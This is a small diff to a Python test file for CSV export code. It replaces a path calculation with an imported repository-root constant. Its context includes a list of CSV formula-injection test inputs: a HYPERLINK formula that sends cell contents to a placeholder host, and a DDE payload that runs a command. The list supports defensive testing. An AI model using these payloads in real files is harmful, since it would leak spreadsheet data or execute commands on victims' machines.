@@ -6,7 +6,6 @@ from __future__ import annotations
 import csv
 import io
 import re
-from pathlib import Path
 
 import pytest
 
@@ -16,8 +15,9 @@ from documents.export_log import CsvLog
 from documents.read_csv import read_csv
 from documents.themes_report import themes_csv
 from domain.themes import ThemeTally
+from tests.paths import REPO_ROOT
 
-ROOT = Path(__file__).resolve().parents[2]
+ROOT = REPO_ROOT
 PACKAGES = ("domain", "storage", "workflows", "notifications", "documents", "web", "cli", "bench")
 
 HOSTILE = ['=HYPERLINK("http://x.invalid/?"&A1,"Open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
